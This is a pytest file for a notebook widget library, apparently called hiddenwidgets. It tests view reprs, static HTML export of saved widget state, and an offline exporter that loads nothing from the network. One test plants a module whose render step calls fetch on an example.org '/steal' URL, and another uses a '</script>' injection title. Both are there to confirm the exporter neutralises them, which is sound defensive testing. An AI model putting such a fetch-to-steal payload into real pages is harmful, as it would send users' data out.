"""Views in course materials without a browser: every view's text/plain says what it is; a notebook's saved widget
state becomes the same page save_html writes (hiddenwidgets.nbconvert); the offline exporter's page names no
network resource; the embedding snippet and the page's size messages agree."""

from __future__ import annotations

import html
import json
import re
import tomllib
from collections import OrderedDict
from pathlib import Path

import nbformat
import pytest
import torch
from torch import nn

import hiddenwidgets as hw
from hiddenwidgets import nbconvert as hwnb
from hiddenwidgets.pipeline import export
from hiddenwidgets.widgets._base import HOW_TO_SEE, STATIC_STATE_ENV, HiddenWidget

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.usefixtures("one_thread")


def cnn() -> nn.Module:
    torch.manual_seed(0)
    return nn.Sequential(OrderedDict(conv1=nn.Conv2d(1, 4, 3, padding=1), relu1=nn.ReLU(), pool=nn.MaxPool2d(2),
                                     flat=nn.Flatten(), fc=nn.Linear(4 * 4 * 4, 3)))


def images(n: int = 6) -> torch.Tensor:
    return torch.rand(n, 1, 8, 8, generator=torch.Generator().manual_seed(1))


def followed(tmp_path: Path):
    model = nn.Sequential(nn.Linear(6, 5), nn.ReLU())
    with hw.ActivationMonitor(model, ["0"], logdir=tmp_path / "run", every=1) as monitor:
        for _ in range(3):
            model(torch.randn(4, 6)).sum().backward()
            monitor.step()
    view = hw.ActivationMonitor.follow(tmp_path / "run")
    view.wait(5)
    return view, ["run", "0"]


def gpt2():
    pytest.importorskip("transformers")
    from tests.unit.test_transformer_analysis import gpt2 as make
    from tests.unit.test_transformer_analysis import ids

    return make(), ids(1, 6)


def intervention():
    from hiddenwidgets.analysis.interventions import intervene

    model = nn.Sequential(OrderedDict(h=nn.Linear(4, 3), out=nn.Linear(3, 2)))
    x = torch.randn(5, 4, generator=torch.Generator().manual_seed(2))
    return hw.InterventionView(intervene(model, x, "h", torch.tensor([1.0, 0.0, 0.0])), x), ["edit", "5 inputs"]


# view class -> (factory(tmp_path) -> (view, words its repr must contain beyond the name, the title and HOW_TO_SEE))
FACTORIES = {
    "ActivationMonitor": lambda t: (hw.ActivationMonitor(cnn(), ["conv1", "fc"]), ["conv1", "fc", "Sequential"]),
    "FollowedRun": followed,
    "AttributionExplorer": lambda t: (hw.AttributionExplorer(cnn(), images(4), selected=["saliency"]),
                                      ["saliency", "4 inputs", "Sequential"]),
    "ConceptAnnotator": lambda t: (hw.ConceptAnnotator(str(t / "c.db"), images(6)), ["0 concepts", "6 examples"]),
    "ConceptScores": lambda t: (hw.ConceptScores(), ["TCAV"]),
    "InformationPlane": lambda t: (hw.InformationPlane(cnn(), ["fc"], images(12), torch.arange(12) % 3, n_epochs=4),
                                   ["information plane", "fc", "Sequential"]),
    "InterventionView": lambda t: intervention(),
    "ProbeChart": lambda t: (hw.ProbeChart(), ["probe"]),
    "Projector": lambda t: (hw.Projector({"hidden": torch.randn(20, 5)}), ["'hidden'", "20 examples", "pca"]),
    "SimilarityMatrix": lambda t: (hw.SimilarityMatrix({"a": torch.randn(20, 5), "b": torch.randn(20, 3)}),
                                   ["CKA", "2 × 2"]),
    "UnitAtlas": lambda t: (hw.UnitAtlas(cnn(), images(6), "relu1", steps=2, k=2, decorrelate=False),
                            ["relu1", "Sequential"]),
    "NetworkExplainer": lambda t: (hw.NetworkExplainer(cnn(), images(3)), ["Sequential", "input 0 of 3"]),
    "LogitLens": lambda t: (hw.LogitLens(*gpt2()), ["logit lens", "GPT2"]),
    "AttentionView": lambda t: (hw.AttentionView(*gpt2()), ["attention heads", "GPT2"]),
    "TokenFlow": lambda t: (hw.TokenFlow(*gpt2()), ["token", "GPT2"]),
}


def all_view_classes() -> set[str]:
    import hiddenwidgets.widgets  # noqa: F401  (imports every view)
    from hiddenwidgets.widgets import followed_run  # noqa: F401

    seen, todo = set(), list(HiddenWidget.__subclasses__())
    while todo:
        cls = todo.pop()
        todo += cls.__subclasses__()
        public = cls.__module__.startswith("hiddenwidgets.") and not cls.__module__.rsplit(".", 1)[1].startswith("_")
        if cls.__dict__.get("_view_file") and public:  # MonitorView (widgets/_monitor_view.py) is a shared base
            seen.add(cls.__name__)
    return seen


def test_the_list_below_covers_every_view():
    assert all_view_classes() == set(FACTORIES)


@pytest.mark.parametrize("name", sorted(FACTORIES))
def test_text_plain_says_what_the_view_is(name, tmp_path):
    view, words = FACTORIES[name](tmp_path)
    try:
        text = repr(view)
        assert text.startswith(f"{name}("), text
        if getattr(view, "title", ""):
            assert repr(view.title) in text
        for word in words:
            assert word in text, (word, text)
        assert "save_html" in text and ("front end with widgets" in text or HOW_TO_SEE in text), text
        assert "could not describe" not in text, text
        bundle = view._repr_mimebundle_()
        data = bundle[0] if isinstance(bundle, tuple) else bundle
        assert data["text/plain"] == text  # what GitHub previews and consoles show
        assert len(text) < 600, text  # a line or two, never a dump of the state
    finally:
        (getattr(view, "dispose", None) or view.close)()


# -- the notebook path ------------------------------------------------------------------------------------------
def saved_notebook(*widgets) -> nbformat.NotebookNode:
    """A notebook as nbclient saves it: one display output per widget, the widget state in the metadata."""
    from ipywidgets.embed import dependency_state

    state = dependency_state(list(widgets), drop_defaults=False)  # each widget and those it holds, buffers base64
    nb = nbformat.v4.new_notebook()
    for w in widgets:
        cell = nbformat.v4.new_code_cell("view")
        cell.outputs = [nbformat.v4.new_output("display_data", data={
            "text/plain": repr(w), hwnb.WIDGET_VIEW: {"version_major": 2, "version_minor": 0, "model_id": w.model_id}})]
        nb.cells.append(cell)
    nb.metadata["widgets"] = {hwnb.WIDGET_STATE: {"version_major": 2, "version_minor": 0, "state": state}}
    return nb


def frames_of(text: str) -> list[str]:
    return [html.unescape(m[1]) for m in re.findall(r"""srcdoc=(['"])(.*?)\1""", text, re.S)]


def payload_of(page: str) -> dict:
    found = re.search(r'id="hw-payload">(.*?)</script>', page, re.S)
    return json.loads(found.group(1))


def unversioned(value):
    if isinstance(value, dict):
        return {k: unversioned(v) for k, v in value.items() if k != "version"}
    return [unversioned(v) for v in value] if isinstance(value, list) else value


def projector() -> hw.Projector:
    return hw.Projector({"hidden": torch.randn(30, 5, generator=torch.Generator().manual_seed(0)),
                         "out": torch.randn(30, 3, generator=torch.Generator().manual_seed(1))},
                        labels=torch.arange(30) % 3, examples=images(30), title="Projector </script><b>x</b>")


def test_a_converted_notebook_shows_what_save_html_shows(monkeypatch, tmp_path):
    view = projector()
    view._open_now()
    monkeypatch.setenv(STATIC_STATE_ENV, "1")
    view._keep_page_state(None)  # what runs after each cell in a kernel
    nb = saved_notebook(view)
    assert "_page_state" in nb.metadata.widgets[hwnb.WIDGET_STATE]["state"][view.model_id]["state"]
    assert hwnb.static_views(nb) == 1
    assert "widgets" not in nb.metadata  # no template can load a widget manager for it now
    out = nb.cells[0].outputs[0]
    assert set(out.data) == {"text/html", "text/plain"} and out.data["text/plain"] == repr(view)
    [page] = frames_of(out.data["text/html"])
    assert "hiddenwidgets-note" not in out.data["text/html"]
    ours = payload_of(page)
    theirs = payload_of(export.page(view))
    assert ours["module"] == theirs["module"] == export.bundle("projector").read_text(encoding="utf-8")
    # the thumbnails, every layer's points, the neighbours: all there (the points' version counts static_state calls)
    assert unversioned(ours["state"]) == unversioned(theirs["state"])
    assert sorted(ours["buffers"], key=str) == sorted(theirs["buffers"], key=str)
    assert ours["state"]["_static"]["pages"] and ours["state"]["_static"]["neighbours"]
    assert "<b>x</b>" not in page.split("<body", 1)[1]  # the title is data in the page, never markup
    assert "window.__hiddenwidgetsResize" in out.data["text/html"]  # the frame sizes itself
    view.dispose()


def test_without_the_page_state_the_page_says_what_is_missing(monkeypatch):
    monkeypatch.delenv(STATIC_STATE_ENV, raising=False)
    view = projector()
    view._open_now()
    view.wait()
    view._keep_page_state(None)  # off: nothing kept
    nb = saved_notebook(view)
    hwnb.static_views(nb)
    text = nb.cells[0].outputs[0].data["text/html"]
    assert "not saved with the notebook" in text and STATIC_STATE_ENV in text
    state = payload_of(frames_of(text)[0])["state"]
    assert "_static" not in state and state["_points"]  # the synced scatter is still drawn
    view.dispose()


def test_widgets_that_are_not_views_become_notes_and_containers_their_children():
    import ipywidgets

    view = hw.ProbeChart(title="probes")
    slider = ipywidgets.IntSlider(3)
    box = ipywidgets.HBox([view, slider])
    nb = saved_notebook(box)
    nb.cells.append(nbformat.v4.new_code_cell("lost"))
    nb.cells[1].outputs = [nbformat.v4.new_output("display_data", data={
        hwnb.WIDGET_VIEW: {"version_major": 2, "version_minor": 0, "model_id": "f" * 32}})]
    assert hwnb.static_views(nb) == 2
    boxed = nb.cells[0].outputs[0].data["text/html"]
    assert boxed.startswith('<div class="hiddenwidgets-box" style="display:flex')
    assert len(frames_of(boxed)) == 1 and "IntSlider from @jupyter-widgets/controls" in boxed
    assert "needs a running Jupyter kernel" in boxed
    assert "state was not saved" in nb.cells[1].outputs[0].data["text/html"]
    box.close()
    slider.close()
    view.dispose()


def test_buffers_of_replaced_state_are_left_out():
    # nbclient keeps every buffer path it saw: a page the newer state no longer has must not come back
    state = {"_page_state": {"_static": {"pages": {"1": {"header": {}}}}}}
    buffers = [{"path": ["_page_state", "_static", "pages", "0", "data"], "data": "AAAA", "encoding": "base64"},
               {"path": ["_page_state", "_static", "pages", "1", "data"], "data": "AQID", "encoding": "base64"}]
    got = hwnb._with_buffers(state, buffers)
    assert got["_page_state"]["_static"]["pages"] == {"1": {"header": {}, "data": b"\x01\x02\x03"}}


def test_code_in_the_notebook_is_never_run():
    # a saved state naming a hiddenwidgets class but carrying its own module: the page runs the installed bundle
    view = hw.ProbeChart()
    nb = saved_notebook(view)
    entry = nb.metadata.widgets[hwnb.WIDGET_STATE]["state"][view.model_id]
    entry["state"]["_esm"] = "export default {render(){fetch('https://example.org/steal')}}"
    hwnb.static_views(nb)
    page = frames_of(nb.cells[0].outputs[0].data["text/html"])[0]
    assert "example.org" not in page
    assert payload_of(page)["module"] == export.bundle("probe_chart").read_text(encoding="utf-8")
    other = hwnb._hiddenwidgets_class("evil.Widget"), hwnb._hiddenwidgets_class("hiddenwidgets.nope.X")
    assert other == (None, None)
    view.dispose()


def test_the_offline_exporter_names_no_network_resource(monkeypatch):
    monkeypatch.delenv(STATIC_STATE_ENV, raising=False)
    view = hw.SimilarityMatrix({"a": torch.randn(20, 5), "b": torch.randn(20, 3)})
    nb = saved_notebook(view)
    nb.cells.insert(0, nbformat.v4.new_markdown_cell("# Title\n\nSome $x^2$ math and ```mermaid``` text."))
    body, _ = hwnb.OfflineHTMLExporter().from_notebook_node(nb)
    assert STATIC_STATE_ENV not in __import__("os").environ  # set for --execute only while converting
    head = body.split("</head>", 1)[0]
    [policy] = [m for m in re.findall(r"<meta[^>]*>", head) if 'http-equiv="Content-Security-Policy"' in m]
    assert f'content="{export.CSP}"' in policy
    assert "<script" not in head.split("Content-Security-Policy", 1)[0]  # the policy comes before any script
    remote = re.findall(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", body)
    remote += re.findall(r"import\(\s*[\"']https?:", body)
    assert remote == []
    assert not [cdn for cdn in ("cdnjs", "jsdelivr", "unpkg", "html-manager") if cdn in body]
    assert len(frames_of(body)) == 1 and "<h1" in body
    stock, _ = __import__("nbconvert").HTMLExporter().from_notebook_node(saved_notebook(view))
    assert re.findall(r"""src=["']https?://""", stock)  # what the stock exporter would have loaded
    view.dispose()


def test_the_exporter_is_registered_for_nbconvert():
    meta = tomllib.loads((ROOT / "pyproject.toml").read_text())
    spec = meta["project"]["entry-points"]["nbconvert.exporters"]["hiddenwidgets"]
    module, _, name = spec.partition(":")
    assert getattr(__import__(module, fromlist=[name]), name) is hwnb.OfflineHTMLExporter


def test_the_resize_message_and_the_snippet_agree():
    boot = (export.STATIC / "static_boot.js").read_text(encoding="utf-8")
    assert export.RESIZE_MESSAGE in boot  # the built boot posts what the snippet listens for
    snippet = export.embed_snippet()
    assert snippet.startswith("<script>") and snippet.endswith("</script>") and export.RESIZE_MESSAGE in snippet
    assert "contentWindow===e.source" in snippet and str(export.MAX_FRAME_HEIGHT) in snippet
    framed = export.frame("<p title='a & b'>x</p>", title="<T>")
    assert framed.startswith('<iframe class="hiddenwidgets-view" title="&lt;T&gt;"')
    assert "srcdoc='<p title=&#39;a &amp; b&#39;>x</p>'" in framed


def test_pages_take_a_fixed_theme_for_hosts_with_one():
    view = hw.ProbeChart()
    state = view.get_state()
    light = export.page_from_state("export default {}", state, title="t", theme="light")
    follow = export.page_from_state("export default {}", state, title="t")
    css = lambda page: page.split("<style>", 1)[1].split("</style>", 1)[0]  # noqa: E731
    assert '<body data-jp-theme-light="true">' in light and "prefers-color-scheme" not in css(light)
    assert "<body>" in follow and "prefers-color-scheme" in css(follow)
    with pytest.raises(ValueError, match="theme must be"):
        export.page_from_state("", state, title="t", theme="blue")
    view.dispose()
